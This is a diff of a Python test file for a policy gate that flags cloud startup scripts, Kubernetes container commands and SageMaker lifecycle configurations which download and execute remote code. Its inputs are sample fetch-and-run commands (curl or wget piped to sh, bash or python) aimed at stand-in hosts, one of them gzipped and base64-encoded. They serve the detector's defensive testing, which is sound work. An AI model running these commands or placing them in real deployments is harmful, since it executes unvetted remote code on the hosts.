@@ -6,6 +6,7 @@ import base64
 import gzip
 
 from tests.harness import capture, findings, gate, set_input
+from tests.policies.test_gpu_1 import messages
 from tests.policies.test_sup_1 import SUP_BASELINE
 
 EC2 = "sup-3-ec2-user-data-installs"
@@ -19,10 +20,6 @@ def b64(text: str) -> str:
     return base64.b64encode(text.encode()).decode()
 
 
-def _messages(report, policy: str) -> list[str]:  # type: ignore[no-untyped-def]
-    return sorted(v.message for v in report.violations if v.policy == policy)
-
-
 def test_compliant_baseline_has_no_sup3_finding() -> None:
     # includes an IMDS token `TOKEN=$(curl ...)` and pinned `pip install` from the default index
     assert findings(gate(capture(SUP_BASELINE)), "sup-3") == set()
@@ -33,76 +30,108 @@ def test_launch_template_user_data_pipes_download_into_shell() -> None:
     c = set_input(capture(SUP_BASELINE), "workers", "userData", b64(script))
     report = gate(c)
     assert findings(report, "sup-3") == {(EC2, "workers")}
-    assert _messages(report, EC2) == [
+    assert messages(report, EC2) == [
         "LaunchTemplate 'workers': userData runs a download piped into an interpreter from 'get.example.com' (not "
-        "in approvedPackageIndexes); install from a pinned, scanned image or an approved package index."]
+        "in approvedPackageIndexes); install from a pinned, scanned image or an approved package index."
+    ]
     assert all("s3cr3t" not in v.message and "install.sh" not in v.message for v in report.violations)
 
 
 def test_instance_user_data_extra_index_url_and_approved_index() -> None:
-    script = "#!/bin/bash\npip3 install torch==2.3.1 --extra-index-url https://pypi.internal.example.com/simple\n"
+    script = (
+        "#!/bin/bash\npip3 install torch==2.3.1 --extra-index-url https://pypi.internal.example.com/simple\n"
+    )
     c = set_input(capture(SUP_BASELINE), "trainer", "userData", script)
     report = gate(c)
     assert findings(report, "sup-3") == {(EC2, "trainer")}
-    assert "pip install --extra-index-url pointing at 'pypi.internal.example.com'" in _messages(report, EC2)[0]
+    assert "pip install --extra-index-url pointing at 'pypi.internal.example.com'" in messages(report, EC2)[0]
     approved = {EC2: {"approvedPackageIndexes": ["*.internal.example.com"]}}
     assert findings(gate(c, approved), "sup-3") == set()
 
 
 def test_pip_install_from_git_url_and_gzipped_base64_user_data() -> None:
-    c = set_input(capture(SUP_BASELINE), "trainer", "userData",
-                  "python -m pip install git+https://github.com/example/lora.git@main")
+    c = set_input(
+        capture(SUP_BASELINE),
+        "trainer",
+        "userData",
+        "python -m pip install git+https://github.com/example/lora.git@main",
+    )
     report = gate(c)
     assert findings(report, "sup-3") == {(EC2, "trainer")}
-    assert "pip install of a URL on 'github.com'" in _messages(report, EC2)[0]
+    assert "pip install of a URL on 'github.com'" in messages(report, EC2)[0]
     packed = base64.b64encode(gzip.compress(b"#!/bin/sh\nwget -qO- http://203.0.113.7/x.sh | sh\n")).decode()
     c = set_input(capture(SUP_BASELINE), "trainer", "userDataBase64", packed)
-    assert "from '203.0.113.7'" in _messages(gate(c), EC2)[0]
+    assert "from '203.0.113.7'" in messages(gate(c), EC2)[0]
 
 
 def test_unreadable_source_host_is_flagged() -> None:
     c = set_input(capture(SUP_BASELINE), "trainer", "userData", 'curl -s "$INSTALLER_URL" | bash')
     report = gate(c)
     assert findings(report, "sup-3") == {(EC2, "trainer")}
-    assert "a host that cannot be read from the script" in _messages(report, EC2)[0]
+    assert "a host that cannot be read from the script" in messages(report, EC2)[0]
 
 
 def test_sagemaker_lifecycle_configurations() -> None:
-    c = set_input(capture(SUP_BASELINE), "notebook-lc", "onCreate", b64("bash <(curl -s https://setup.example.io/nb)"))
+    c = set_input(
+        capture(SUP_BASELINE), "notebook-lc", "onCreate", b64("bash <(curl -s https://setup.example.io/nb)")
+    )
     report = gate(c)
     assert findings(report, "sup-3") == {(SAGEMAKER, "notebook-lc")}
-    assert _messages(report, SAGEMAKER) == [
+    assert messages(report, SAGEMAKER) == [
         "SageMaker NotebookInstanceLifecycleConfiguration 'notebook-lc': onCreate runs a downloaded script executed "
         "by substitution from 'setup.example.io' (not in approvedPackageIndexes); install from a pinned, scanned "
-        "image or an approved package index."]
-    c = set_input(capture(SUP_BASELINE), "studio-lc", "studioLifecycleConfigContent",
-                  b64("pip install -i https://pypi.example.net/simple jupyter-ai"))
+        "image or an approved package index."
+    ]
+    c = set_input(
+        capture(SUP_BASELINE),
+        "studio-lc",
+        "studioLifecycleConfigContent",
+        b64("pip install -i https://pypi.example.net/simple jupyter-ai"),
+    )
     assert findings(gate(c), "sup-3") == {(SAGEMAKER, "studio-lc")}
 
 
 def test_workbench_and_compute_startup_scripts() -> None:
-    c = set_input(capture(SUP_BASELINE), "workbench", "gceSetup.metadata.post-startup-script",
-                  "#!/bin/bash\nwget -qO- https://tools.example.org/bootstrap | python3 -\n")
+    c = set_input(
+        capture(SUP_BASELINE),
+        "workbench",
+        "gceSetup.metadata.post-startup-script",
+        "#!/bin/bash\nwget -qO- https://tools.example.org/bootstrap | python3 -\n",
+    )
     report = gate(c)
     assert findings(report, "sup-3") == {(GCE, "workbench")}
-    assert _messages(report, GCE)[0].startswith(
+    assert messages(report, GCE)[0].startswith(
         "workbench Instance 'workbench': gceSetup.metadata.post-startup-script runs a download piped into an "
-        "interpreter from 'tools.example.org'")
-    c = set_input(capture(SUP_BASELINE), "gce-trainer", "metadataStartupScript",
-                  'sh -c "$(curl -fsSL https://raw.example.com/setup.sh)"')
+        "interpreter from 'tools.example.org'"
+    )
+    c = set_input(
+        capture(SUP_BASELINE),
+        "gce-trainer",
+        "metadataStartupScript",
+        'sh -c "$(curl -fsSL https://raw.example.com/setup.sh)"',
+    )
     assert findings(gate(c), "sup-3") == {(GCE, "gce-trainer")}
 
 
 def test_kubernetes_container_command() -> None:
-    c = set_input(capture(SUP_BASELINE), "server", "spec.template.spec.containers.0.command",
-                  ["sh", "-c", "pip install https://files.example.com/serve-1.0-py3-none-any.whl && python -m serve"])
+    c = set_input(
+        capture(SUP_BASELINE),
+        "server",
+        "spec.template.spec.containers.0.command",
+        ["sh", "-c", "pip install https://files.example.com/serve-1.0-py3-none-any.whl && python -m serve"],
+    )
     report = gate(c)
     assert findings(report, "sup-3") == {(PODS, "server")}
-    assert _messages(report, PODS) == [
+    assert messages(report, PODS) == [
         "Deployment 'server': containers 'serve' command/args runs pip install of a URL on 'files.example.com' (not "
-        "in approvedPackageIndexes); install from a pinned, scanned image or an approved package index."]
-    c = set_input(capture(SUP_BASELINE), "server", "spec.template.spec.initContainers.0.args",
-                  ["-c", "curl -sSL https://x.example.com/i | sh"])
+        "in approvedPackageIndexes); install from a pinned, scanned image or an approved package index."
+    ]
+    c = set_input(
+        capture(SUP_BASELINE),
+        "server",
+        "spec.template.spec.initContainers.0.args",
+        ["-c", "curl -sSL https://x.example.com/i | sh"],
+    )
     assert findings(gate(c), "sup-3") == {(PODS, "server")}
 
 
@@ -121,7 +150,10 @@ def test_unknown_scripts_at_preview_are_reported_not_passed() -> None:
     set_input(c, "gce-trainer", "metadataStartupScript", UNKNOWN)
     set_input(c, "server", "spec.template.spec.containers.0.command", UNKNOWN)
     report = gate(c)
-    unknown = {(v.policy, v.resource_name) for v in report.violations
-               if v.kind == "unknown-at-preview" and v.policy.startswith("sup-3")}
+    unknown = {
+        (v.policy, v.resource_name)
+        for v in report.violations
+        if v.kind == "unknown-at-preview" and v.policy.startswith("sup-3")
+    }
     assert unknown == {(EC2, "workers"), (SAGEMAKER, "notebook-lc"), (GCE, "gce-trainer"), (PODS, "server")}
     assert findings(report, "sup-3") == set()
